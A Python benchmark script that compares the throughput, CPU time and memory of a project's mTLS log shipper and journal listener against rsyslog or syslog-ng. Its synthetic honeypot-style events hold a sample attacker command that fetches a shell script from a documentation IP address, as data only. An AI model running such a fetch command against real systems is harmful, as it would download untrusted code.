"""How fast a log file becomes an acknowledged, durable journal over mTLS, beside a public peer in the same run.

    python bench/shipping.py [--lines N] [--peer rsyslog-tls|rsyslog-relp|syslog-ng] [--folder F] [--json]

Ours are `decnet-logship serve` and the master's listener as real processes. The peer is a sender and a receiver of
Debian's rsyslog or syslog-ng (`scripts/setup peers`) that demand each other's certificates too. Both read the same
events of some 350 bytes and run one pair after the other, each in a folder of its own.

A pair is connected and has delivered a line before the clock starts, so that start-up is no part of the figure: the
sender is stopped (SIGSTOP) while the lines are appended to its file, and the clock runs from SIGCONT until the last one
is there. "There" is weaker for the peer: in the receiver's file, handed to the kernel. For ours it is fsynced in the
journal; afterwards every byte of it is held to the file's, and the sender must know it acknowledged. Of the peers only
RELP acknowledges, and what it acknowledges is queued in memory.

`cpu_secs` is the processor time of both sides in the meantime; resident sizes are the peaks of the processes' lives.
syslog-ng words each message anew, with a header of its own around the line; the others ship the line as it stands.

The last line printed is one JSON object. Exit codes: 0 measured, 69 a part is missing or a pair did not get there.
Whatever ends this program, the kernel ends its daemons, and a watcher on a pipe removes the folder.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # a program of the checkout: it uses the lab's pieces

from decnet_core import logs  # noqa: E402
from decnet_core.errors import DecnetError, ExitCode, Unavailable  # noqa: E402
from decnet_core.identity import MASTER  # noqa: E402
from decnet_core.pki.certificates import make_csr  # noqa: E402
from decnet_core.pki.keystore import KeyStore  # noqa: E402
from decnet_core.syslog.rfc5424 import SyslogMessage, encode  # noqa: E402
from decnet_logship.state import acked_before  # noqa: E402
from decnet_master.journal.reader import START, JournalReader  # noqa: E402
from decnet_master.journal.segments import Position, read_marker  # noqa: E402
from tests.lab.peers import Link, Peer  # noqa: E402
from tests.lab.processes import Daemon, free_port  # noqa: E402
from tests.shipping.place import Log, Place  # noqa: E402

LINKS = {"rsyslog-tls": Link.RSYSLOG_GNUTLS, "rsyslog-relp": Link.RSYSLOG_RELP, "syslog-ng": Link.SYSLOG_NG}
PATIENCE_SECS = 300.0  # for one pair; the slowest takes 30 s for a million lines
POLL_SECS = 0.005  # the error of a figure, at most
READ_BYTES = 1 << 20
ACKED_EVERY = 20  # polls; logship tells its state once a second
TICKS_PER_SEC = os.sysconf("SC_CLK_TCK")


@dataclass(frozen=True, slots=True)
class Figures:
    """What one pair did."""

    lines_per_s: int
    cpu_secs: float
    sender_rss_mib: float
    receiver_rss_mib: float


def main() -> int:
    """Measure both pairs and print."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--lines", type=int, default=500_000, help="lines for each pair (default: %(default)s)")
    parser.add_argument("--peer", choices=LINKS, default="rsyslog-tls", help="default: %(default)s")
    parser.add_argument("--folder", type=Path, default=Path(tempfile.gettempdir()), help="where to work; default: /tmp")
    parser.add_argument("--json", action="store_true", help="print nothing but the JSON object")
    arguments = parser.parse_args()
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    logs.configure("bench", level="warning")
    folder = Path(tempfile.mkdtemp(prefix="decnet-bench-", dir=arguments.folder))
    with removed_at_the_end(folder):
        try:
            lines = [typical(number) for number in range(arguments.lines)]
            place = prepared(folder / "ours")
            ours = measure_ours(place, lines)
            peer = measure_peer(place, LINKS[arguments.peer], folder / "peer", lines)
        except DecnetError as error:
            print(f"error: {error.message}\n  {error.advice}", file=sys.stderr)
            return ExitCode.UNAVAILABLE
    result = {
        "ours": asdict(ours),
        "peer": {**asdict(peer), "name": arguments.peer},
        "ratio": round(ours.lines_per_s / peer.lines_per_s, 2),
    }
    if not arguments.json:
        for name, figures in (("decnet", ours), (arguments.peer, peer)):
            print(f"{name:14} {figures.lines_per_s:9,} lines/s {figures.cpu_secs:7.2f} CPU seconds")
    print(json.dumps(result))
    return 0


def typical(number: int) -> bytes:
    """Make an event as an agent would: some 350 bytes, no two alike."""
    params = {
        "id": f"{number:032x}",
        "source": "tap/5f3c0de1",
        "cursor": f"{number}.0",
        "trust": "sensor",
        "src_ip": f"192.0.2.{number % 250}",
        "src_port": str(40000 + number % 20000),
        "session": f"{number % 97:016x}",
        "user": "root",
        "command": "wget -q http://198.51.100.9/x.sh",
    }
    at = datetime(2026, 11, 23, 16, 0, tzinfo=UTC) + timedelta(milliseconds=number)
    text = "a command was run in an interactive shell of a decky"
    return encode(
        SyslogMessage(20, 5, at, f"web-{number % 7:02}", "ssh", str(number), "command.run", params=params, message=text)
    )


def prepared(folder: Path) -> Place:
    """Make a master and a worker that are enrolled; the master's certificate names the address for syslog-ng's sake."""
    place = Place.make(folder)
    (folder / "decnet.ini").write_text("[decnet]\n")
    place.enrol_in_database()
    now = datetime.now(UTC)
    store = KeyStore(place.master_data / "identities")
    csr = make_csr(store.create_key(MASTER.role), MASTER)
    address = IPv4Address("127.0.0.1")
    pem = place.authority.issue(csr, MASTER, ips=(address,), now=now, lifetime=timedelta(days=1))
    store.store(MASTER.role, pem, place.authority.certificate_pem, now)
    return place


def measure_ours(place: Place, lines: list[bytes]) -> Figures:
    """Ship with logship and the listener."""
    port = free_port()
    env = {
        "DECNET_CONFIG": str(place.folder / "decnet.ini"),
        "DECNET_LISTENER_ADDRESS": f"127.0.0.1:{port}",
        "DECNET_MASTER": f"127.0.0.1:{port}",
        "DECNET_LOG_DIRECTORY": str(place.log_path.parent),
    }
    receiver = Daemon(
        [sys.executable, str(ROOT / "tests/shipping/run_listener.py")],
        log_path=place.folder / "listener.out",
        env=env | {"DECNET_DATA_DIRECTORY": str(place.master_data)},
    )
    sender = Daemon(
        [sys.executable, "-m", "decnet_logship", "serve"],
        log_path=place.folder / "logship.out",
        env=env | {"DECNET_DATA_DIRECTORY": str(place.worker_data)},
    )
    log = Log(place.log_path)
    with receiver:
        receiver.wait_for_line("listener.started")
        with sender:
            sender.wait_until(lambda: acked(place, log) == log.path.stat().st_size, "a first line")

            def arrived() -> float:
                """Wait for the last acknowledgement, then look up when the last byte became durable."""
                seen: list[tuple[float, Position]] = []

                def is_acked() -> bool:
                    seen.append((time.monotonic(), read_marker(place.journal)))
                    return len(seen) % ACKED_EVERY == 0 and acked(place, log) == log.path.stat().st_size

                wait(sender, is_acked)
                end = proved(place, log)
                return next(at for at, position in seen if position >= end)

            return measured(sender, receiver, len(lines), lambda: log.write(*lines), arrived)


def measure_peer(place: Place, link: Link, folder: Path, lines: list[bytes]) -> Figures:
    """Ship with somebody else's pair."""
    log_path, output = folder / "events.log", folder / "output"
    folder.mkdir()
    log_path.write_bytes(lines[0] + b"\n")
    port = free_port()
    master = KeyStore(place.master_data / "identities").load(MASTER.role, datetime.now(UTC)).files
    receiver = Peer(link, folder / "receiver", master, port).receiver(output)
    sender = Peer(link, folder / "sender", place.shipper.files, port).sender(log_path)
    with receiver:
        receiver.wait_for_port(port)
        with sender:
            sender.wait_until(lambda: output.exists() and output.stat().st_size > 0, "a first line")

            def append() -> None:
                with log_path.open("ab") as log:
                    log.write(b"\n".join(lines) + b"\n")

            with output.open("rb", buffering=0) as written:
                missing = len(lines) + 1

                def is_there() -> bool:
                    nonlocal missing
                    while block := written.read(READ_BYTES):
                        missing -= block.count(b"\n")
                    return missing <= 0

                def arrived() -> float:
                    wait(sender, is_there)
                    return time.monotonic()

                return measured(sender, receiver, len(lines), append, arrived)


def measured(
    sender: Daemon, receiver: Daemon, count: int, append: Callable[[], None], arrived: Callable[[], float]
) -> Figures:
    """Let a stopped sender find new lines, and account for what it takes.

    Args:
        sender: connected, with nothing left to send.
        receiver: the other side.
        count: how many lines there are.
        append: writes them.
        arrived: waits until all is there, and returns when that was, by the monotonic clock.
    """
    os.kill(sender.pid, signal.SIGSTOP)
    try:
        append()
        before = cpu_secs(sender.pid) + cpu_secs(receiver.pid)
        began = time.monotonic()
    finally:
        os.kill(sender.pid, signal.SIGCONT)
    ended = arrived()
    spent = cpu_secs(sender.pid) + cpu_secs(receiver.pid) - before
    return Figures(round(count / (ended - began)), round(spent, 2), peak_mib(sender.pid), peak_mib(receiver.pid))


def wait(daemon: Daemon, reached: Callable[[], bool]) -> None:
    """Look for a level often; a daemon that died meanwhile is an error with its log's end."""
    deadline = time.monotonic() + PATIENCE_SECS
    while not reached():
        if daemon.returncode is not None or time.monotonic() > deadline:
            raise Unavailable(f"{daemon.argv[0]} did not ship all lines", f"Its log ends: {daemon.log_text()[-2000:]}")
        time.sleep(POLL_SECS)


def acked(place: Place, log: Log) -> int | None:
    """Return how far the sender knows its log acknowledged."""
    return acked_before(place.worker_data / "logship" / "state.json").get(log.generation)


def proved(place: Place, log: Log) -> Position:
    """Hold the journal to the log, byte for byte, and return where it ends."""
    reader, position = JournalReader(place.journal), START
    with log.path.open("rb") as wanted:
        while batches := reader.read(position, READ_BYTES):
            for batch in batches:
                if b"".join(line + b"\n" for line in batch.lines) != wanted.read(batch.end - batch.start):
                    raise Unavailable("The journal is not what was written", "That is a fault of ours: report it.")
            position = batches[-1].next
        if wanted.read(1):
            raise Unavailable(
                "The journal is shorter than what was acknowledged", "That is a fault of ours: report it."
            )
    return position


def cpu_secs(pid: int) -> float:
    """Return a process's processor time so far, its threads' included (utime and stime of proc_pid_stat(5))."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / TICKS_PER_SEC


def peak_mib(pid: int) -> float:
    """Return the most that a process ever had resident."""
    status = Path(f"/proc/{pid}/status").read_text()
    kib = next(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmHWM:"))
    return round(kib / 1024, 1)


def removed_at_the_end(folder: Path) -> subprocess.Popen[bytes]:
    """Start a watcher that removes the folder once this process's end of a pipe is gone, however it went.

    It tries again while daemons, which the kernel kills at the same moment, still write.
    """
    script = 'cat; until rm -rf -- "$0"; do sleep 0.1; done'
    return subprocess.Popen(["/bin/sh", "-c", script, str(folder)], stdin=subprocess.PIPE, start_new_session=True)


if __name__ == "__main__":
    sys.exit(main())
